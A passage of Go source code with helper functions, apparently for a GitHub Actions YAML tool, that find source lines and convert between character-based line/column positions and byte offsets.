			return pos
		}
		if k == nth {
			return ghaOffsetPos(d.src, start+at+i)
		}
		at += i + len(token)
	}
}

// ghaSourceLine returns 1-based line n of src without its line ending.
func ghaSourceLine(src []byte, n int) string {
	for l := range bytes.Lines(src) {
		n--
		if n == 0 {
			return strings.TrimRight(string(l), "\r\n")
		}
	}
	return ""
}

// ghaSourceOffset converts a position (columns counted in characters, as
// yaml.v3 does) to a byte offset in src, or -1.
func ghaSourceOffset(src []byte, p tree.Position) int {
	off, line := 0, 1
	for line < p.Line {
		i := bytes.IndexByte(src[off:], '\n')
		if i < 0 {
			return -1
		}
		off += i + 1
		line++
	}
	for col := 1; col < p.Column && off < len(src) && src[off] != '\n'; col++ {
		_, w := utf8.DecodeRune(src[off:])
		off += w
	}
	return off
}

// ghaOffsetPos converts a byte offset in src to a position.
func ghaOffsetPos(src []byte, off int) tree.Position {
	before := src[:off]
	line := 1 + bytes.Count(before, []byte("\n"))
	ls := bytes.LastIndexByte(before, '\n') + 1
	return tree.Position{Line: line, Column: 1 + utf8.RuneCount(before[ls:])}
}

func ghaLeadingSpaces(s string) int {
	return len(s) - len(strings.TrimLeft(s, " "))
}
